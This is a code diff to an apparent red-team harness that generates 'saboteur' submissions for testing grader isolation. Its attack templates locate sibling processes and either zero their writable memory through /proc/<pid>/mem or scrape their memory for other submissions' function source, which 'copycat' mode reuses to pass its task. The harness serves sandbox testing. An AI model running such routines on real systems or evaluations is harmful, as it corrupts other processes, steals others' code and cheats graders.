@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import os
 
+from redteam.payloads import PROC_REGIONS
 from redteam.probes import Family, Probe, every_nth, fenced, rotate
 from redteam.tasks import Task, load_tasks
 
@@ -136,21 +137,12 @@ def _attack():
         """
 def _attack():
     for pid in _siblings():
-        try:
-            maps = open(f"/proc/{pid}/maps").read().splitlines()
-            mem = open(f"/proc/{pid}/mem", "r+b", buffering=0)
-        except OSError:
-            continue
-        for line in maps:
-            rng, perms = line.split()[:2]
-            if "w" in perms:
-                lo, hi = (int(x, 16) for x in rng.split("-"))
-                try:
-                    mem.seek(lo)
-                    mem.write(b"\\0" * min(hi - lo, 1 << 16))
-                except OSError:
-                    pass
-        mem.close()
+        for mem, lo, hi in _regions(pid, "w", "r+b"):
+            try:
+                mem.seek(lo)
+                mem.write(b"\\0" * min(hi - lo, 1 << 16))
+            except OSError:
+                pass
 """,
     ),
     (
@@ -186,21 +178,14 @@ def _attack():
         return
     texts = []
     for pid in _siblings():
-        try:
-            maps = open(f"/proc/{pid}/maps").read().splitlines()
-            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
-        except OSError:
-            continue
-        for line in maps:
-            rng, perms = line.split()[:2]
-            lo, hi = (int(x, 16) for x in rng.split("-"))
-            if "r" in perms and hi - lo < 64 << 20:
-                try:
-                    mem.seek(lo)
-                    texts += [m.group().decode() for m in _re.finditer(
-                        rb"[\x09\x0a\x20-\x7e]{0,4000}def {EP}\([\x09\x0a\x20-\x7e]{0,8000}", mem.read(hi - lo))]
-                except OSError:
-                    pass
+        for mem, lo, hi in _regions(pid):
+            try:
+                mem.seek(lo)
+                chunk = mem.read(hi - lo)
+            except OSError:
+                continue
+            pattern = rb"[\x09\x0a\x20-\x7e]{0,4000}def {EP}\([\x09\x0a\x20-\x7e]{0,8000}"
+            texts += [m.group().decode() for m in _re.finditer(pattern, chunk)]
     for d in _scratch_dirs():
         try:
             for name in _os.listdir(d):
@@ -225,12 +210,12 @@ def _attack():
 
 
 def _saboteur_code(task: Task, attack: str, copycat: bool) -> str:
-    src = FIND_SIBLINGS.replace("{GRADER_PID}", str(os.getpid())) + attack + LOOP
+    src = FIND_SIBLINGS.replace("{GRADER_PID}", str(os.getpid())) + PROC_REGIONS + attack + LOOP
     if copycat:
         body = f'return _stolen["{task.entry_point}"](*args) if "{task.entry_point}" in _stolen else None'
     else:
         body = "return 0"
-    return (src + f"\n\ndef {task.entry_point}(*args, **kwargs):\n    {body}\n").replace("{EP}", task.entry_point)
+    return task.program(src, body).replace("{EP}", task.entry_point)
 
 
 def _siblings_for(task: Task, batch: str, same_task: bool) -> list[Probe]:
